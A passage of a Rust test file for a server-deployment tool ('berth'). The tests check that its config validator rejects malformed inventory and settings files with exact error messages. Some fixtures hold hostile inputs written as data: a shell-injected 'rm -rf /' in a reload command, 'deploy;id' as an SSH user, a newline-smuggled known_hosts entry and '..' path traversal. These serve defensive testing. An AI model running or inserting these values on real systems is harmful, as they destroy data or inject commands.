            "known_hosts garbage", Inventory, inventory("known_hosts: \"web-1.example.com", "known_hosts: \"evil\\nweb-1.example.com"),
            &[
                "inventory.yml:8:20: hosts.web-1.ssh.known_hosts: \"evil\\nweb-1.example.com ssh-ed25519 AAAAC3NzaC1lZ…\" is not a known_hosts line\n  hint: copy the host's line from `ssh-keyscan -p PORT HOST`, e.g. [10.0.0.5]:22 ssh-ed25519 AAAA…",
            ],
        ),
        case(
            "reload command with shell", Inventory, inventory("reload_command: [/usr/sbin/nginx, -s, reload]", "reload_command: [\"nginx -s reload; rm -rf /\"]"),
            &[
                "inventory.yml:17:24: hosts.web-1.front.reload_command[0]: command argument \"nginx -s reload; rm -rf /\" has a character berth does not pass to a host\n  hint: give each argument as its own list item, using letters, digits and . _ - / = : @ % + ,",
            ],
        ),
        case(
            "reload command empty", Inventory, inventory("reload_command: [/usr/sbin/nginx, -s, reload]", "reload_command: []"),
            &[
                "inventory.yml:17:23: hosts.web-1.front.reload_command: command is empty\n  hint: give the program and its arguments as a list, e.g. [/usr/sbin/nginx, -s, reload]",
            ],
        ),
        case(
            "test command by name", Inventory, inventory("test_command: [/usr/sbin/nginx, -t]", "test_command: [nginx, -t]"),
            &[
                "inventory.yml:16:22: hosts.web-1.front.test_command[0]: program \"nginx\" is not an absolute path\n  hint: write the program's full path, e.g. /usr/sbin/nginx or /usr/bin/sudo: berth runs it over a non-root SSH session, whose PATH lacks /usr/sbin",
            ],
        ),
        case(
            "reload command by name", Inventory, inventory("reload_command: [/usr/sbin/nginx, -s, reload]", "reload_command: [nginx, -s, reload]"),
            &[
                "inventory.yml:17:24: hosts.web-1.front.reload_command[0]: program \"nginx\" is not an absolute path\n  hint: write the program's full path, e.g. /usr/sbin/nginx or /usr/bin/sudo: berth runs it over a non-root SSH session, whose PATH lacks /usr/sbin",
            ],
        ),
        case(
            "root berth by relative path", Inventory, inventory("root_berth: [/usr/bin/sudo,", "root_berth: [bin/sudo,"),
            &[
                "inventory.yml:19:18: hosts.web-1.root_berth[0]: program \"bin/sudo\" is not an absolute path\n  hint: write the program's full path, e.g. /usr/sbin/nginx or /usr/bin/sudo: berth runs it over a non-root SSH session, whose PATH lacks /usr/sbin",
            ],
        ),
        case(
            "no root berth", Inventory, inventory("    root_berth: [/usr/bin/sudo, -n, /usr/local/bin/berth]\n", ""),
            &[
                "inventory.yml:4:5: hosts.web-1.root_berth: required key root_berth is missing\n  hint: add `root_berth:` under hosts.web-1",
            ],
        ),
        case(
            "base dir relative", Inventory, inventory("base_dir: /srv/berth", "base_dir: srv/berth"),
            &[
                "inventory.yml:10:15: hosts.web-1.base_dir: path \"srv/berth\" is not absolute\n  hint: give an absolute path such as /srv/berth, using letters, digits and . _ - /",
            ],
        ),
        case(
            "base dir traversal", Inventory, inventory("base_dir: /srv/berth", "base_dir: /srv/../etc"),
            &[
                "inventory.yml:10:15: hosts.web-1.base_dir: path \"srv/../etc\" leaves its directory with \"..\"\n  hint: give an absolute path such as /srv/berth, using letters, digits and . _ - /",
            ],
        ),
        case(
            "include dir with space", Inventory, inventory("include_dir: /etc/nginx/berth.d", "include_dir: \"/etc/nginx/berth d\""),
            &[
                "inventory.yml:13:20: hosts.web-1.front.include_dir: path \"/etc/nginx/berth d\" contains a space\n  hint: give an absolute path such as /srv/berth, using letters, digits and . _ - /",
            ],
        ),
        case(
            "listen without port", Inventory, inventory("listen: 0.0.0.0:80", "listen: 0.0.0.0"),
            &[
                "inventory.yml:15:15: hosts.web-1.front.listen: \"0.0.0.0\" is not an address:port\n  hint: write it as 0.0.0.0:80 or [::]:443",
            ],
        ),
        case(
            "trusted proxy not a network", Inventory, inventory("trusted_proxies: [10.0.0.0/8]", "trusted_proxies: [10.0.0.0/33]"),
            &[
                "inventory.yml:18:25: hosts.web-1.front.trusted_proxies[0]: \"10.0.0.0/33\" is not a network in CIDR form\n  hint: write an address and prefix length such as 10.0.0.0/8 or fd00::/8",
            ],
        ),
        case(
            "ssh port zero", Inventory, inventory("port: 22", "port: 0"),
            &[
                "inventory.yml:6:13: hosts.web-1.ssh.port: port \"0\" is out of range\n  hint: use a port between 1 and 65535",
            ],
        ),
        case(
            "ssh user with shell", Inventory, inventory("user: deploy", "user: \"deploy;id\""),
            &[
                "inventory.yml:7:13: hosts.web-1.ssh.user: \"deploy;id\" is not a valid user name\n  hint: use lowercase letters, digits, '_' and '-', starting with a letter, e.g. deploy",
            ],
        ),
        case(
            "host name uppercase", Inventory, inventory("  web-1:", "  Web_1:"),
            &[
                "inventory.yml:3:3: hosts.Web_1: host name \"Web_1\" contains 'W'\n  hint: use at most 63 lowercase letters, digits and '-', starting with a letter, e.g. web-1",
            ],
        ),
        // berth.yml: the developer's own file, read as strictly
        case(
            "empty berth.yml", Settings, "# nothing\n".into(),
            &["berth.yml:1:1: file is empty\n  hint: write the app's settings (docs/config.md, berth.yml), or delete the file"],
        ),
        case(
            "berth.yml unknown key", Settings, "volumes: [/srv]\nwritable_dirs: [data]\n".into(),
            &[
                "berth.yml:1:1: volumes: unknown key \"volumes\"\n  hint: known keys here: storage, sessions, health, web, php",
                "berth.yml:2:1: writable_dirs: unknown key \"writable_dirs\"\n  hint: known keys here: storage, sessions, health, web, php",
            ],
        ),
        case(
            "storage not a list", Settings, "storage: data\n".into(),
            &["berth.yml:1:10: storage: expected a list, found a string\n  hint: write a list here"],
        ),
        case(
            "storage absolute", Settings, "storage: [/etc]\n".into(),
            &["berth.yml:1:11: storage[0]: storage path \"/etc\" is absolute; it is relative to the code root\n  hint: give a directory of the code, relative to its root, such as data or var/sessions, using letters, digits and . _ - /"],
        ),
        case(
            "storage leaves the code", Settings, "storage: [data/../../etc]\n".into(),
            &["berth.yml:1:11: storage[0]: storage path \"data/../../etc\" leaves its directory with \"..\"\n  hint: give a directory of the code, relative to its root, such as data or var/sessions, using letters, digits and . _ - /"],
        ),
        case(
            "storage hostile characters", Settings, "storage: [\"data\\e[31m\\n\"]\n".into(),
            &["berth.yml:1:11: storage[0]: storage path \"data\\u{1b}[31m\\n\" contains '\\u{1b}'\n  hint: give a directory of the code, relative to its root, such as data or var/sessions, using letters, digits and . _ - /"],
        ),
        case(
            "storage paths overlap", Settings, "storage: [var, var/sessions]\n".into(),
            &["berth.yml:1:16: storage[1]: \"var\" and \"var/sessions\" overlap\n  hint: each storage path is a mount of its own; list directories that do not contain each other"],
        ),
        case(
            "sessions outside storage", Settings, "storage: [data]\nsessions: /tmp\n".into(),
            &["berth.yml:2:11: sessions: storage path \"/tmp\" is absolute; it is relative to the code root\n  hint: give a directory of the code, relative to its root, such as data or var/sessions, using letters, digits and . _ - /"],
        ),
        case(
            "sessions not a storage path", Settings, "storage: [data]\nsessions: var/sessions\n".into(),
            &["berth.yml:2:11: sessions: \"var/sessions\" is not one of the storage paths\n  hint: list the sessions directory under storage too, e.g. storage: [var/sessions]"],
        ),
        case(
            "too many storage paths", Settings,
            format!("storage: [{}]\n", (0..17).map(|i| format!("d{i}")).collect::<Vec<_>>().join(", ")),
            &["berth.yml:1:10: storage: 17 storage paths, more than 16\n  hint: keep the app's data under a few directories"],
        ),
        case(
            "health without a path", Settings, "health: {status: 200}\n".into(),
            &["berth.yml:1:10: health.path: required key path is missing\n  hint: add `path:` under health"],
        ),
        case(
            "health status out of range", Settings, "health: {path: /health.php, status: 500}\n".into(),
            &["berth.yml:1:37: health.status: status \"500\" is out of range\n  hint: use a whole number from 200 to 299"],
        ),
        case(
            "health text not ASCII", Settings, "health: {path: /health.php, contains: \"ok \u{2713}\"}\n".into(),
            &["berth.yml:1:39: health.contains: text \"ok \\u{2713}\" holds a character that is not printable ASCII\n  hint: give 1 to 100 printable ASCII characters that only a working app's page holds, e.g. \"status: ok\""],
        ),
        case(
            "deny everything", Settings, "web: {deny: [/]}\n".into(),
            &["berth.yml:1:14: web.deny[0]: \"/\" would deny the whole app\n  hint: name the directories to hide, such as /data or /config"],
        ),
        case(
            "deny a relative path", Settings, "web: {deny: [config]}\n".into(),
            &["berth.yml:1:14: web.deny[0]: URL path \"config\" must start with '/' and be at most 200 characters\n  hint: give a path starting with '/', using letters, digits and . _ ~ - /, e.g. /health.php"],
        ),
        case(
            "deny a regular expression", Settings, "web: {deny: [\"~ .*\"]}\n".into(),
            &["berth.yml:1:14: web.deny[0]: URL path \"~ .*\" contains a space\n  hint: give a path starting with '/', using letters, digits and . _ ~ - /, e.g. /health.php"],
        ),
        case(
            "front controller not PHP", Settings, "web: {front_controller: /index.html}\n".into(),
            &["berth.yml:1:25: web.front_controller: \"/index.html\" is not a PHP script\n  hint: name the script that routes pretty URLs, e.g. /index.php"],
        ),
        case(
            "static php files", Settings, "web: {static: {extensions: [css, php], max_age: 1d}}\n".into(),
            &["berth.yml:1:34: web.static.extensions[1]: extension \"php\" may be PHP\n  hint: PHP scripts are run, never served as files: list only static files' extensions"],
        ),
        case(
            "static extension with a pattern", Settings, "web: {static: {extensions: [\"css|php\"], max_age: 1d}}\n".into(),
            &["berth.yml:1:29: web.static.extensions[0]: extension \"css|php\" is not 1 to 10 lowercase letters and digits\n  hint: give an extension without its dot, in lowercase letters and digits, e.g. css or woff2"],
        ),
        case(
            "static without a lifetime", Settings, "web: {static: {extensions: [css]}}\n".into(),
            &["berth.yml:1:16: web.static.max_age: required key max_age is missing\n  hint: add `max_age:` under web.static"],
        ),
        case(
            "compress not a boolean", Settings, "web: {compress: \"on; gzip_types *\"}\n".into(),
            &["berth.yml:1:17: web.compress: expected true or false, found a string\n  hint: write true or false here"],
        ),
        case(
            "php memory above app.yml", Settings, "php: {memory_limit: 1G}\n".into(),
            &["berth.yml:1:21: php.memory_limit: 1G is outside what app.yml allows this app\n  hint: use a size from 16M to 128M (app.yml's php.memory_limit, set by the platform admin)"],
        ),
        case(
            "php setting the platform keeps", Settings, "php: {max_children: 50, disable_functions: \"\"}\n".into(),
            &[
                "berth.yml:1:7: php.max_children: unknown key \"max_children\"\n  hint: known keys here: memory_limit, max_execution_time, upload_max_filesize, post_max_size",
                "berth.yml:1:25: php.disable_functions: unknown key \"disable_functions\"\n  hint: known keys here: memory_limit, max_execution_time, upload_max_filesize, post_max_size",
            ],
        ),
    ]
}

#[test]
fn every_bad_input_is_refused_with_its_exact_messages() {
    let cases = cases();
    assert!(
        cases.len() >= 60,
        "the table has only {} cases",
        cases.len()
    );
    let mut failures = Vec::new();
    for case in &cases {
        let actual = problems(case.kind, &case.text);
        if actual.is_empty() {
            failures.push(format!("{}: accepted, but must be refused", case.name));
        } else if actual != case.expected {
            failures.push(format!(
                "{}:\n  expected: {:#?}\n  actual:   {:#?}",
                case.name, case.expected, actual
            ));
        }
    }
    assert!(
        failures.is_empty(),
        "{} case(s) failed:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

#[test]
fn no_message_carries_a_raw_control_or_non_ascii_character() {
    for case in cases() {
        for message in problems(case.kind, &case.text) {
            let clean = message.chars().all(|c| {
                c == '\n' || c == '…' || c == '–' || (c.is_ascii() && !c.is_ascii_control())
            });
            assert!(
                clean,
                "{}: message has raw characters: {message:?}",
                case.name
            );
        }
    }
}
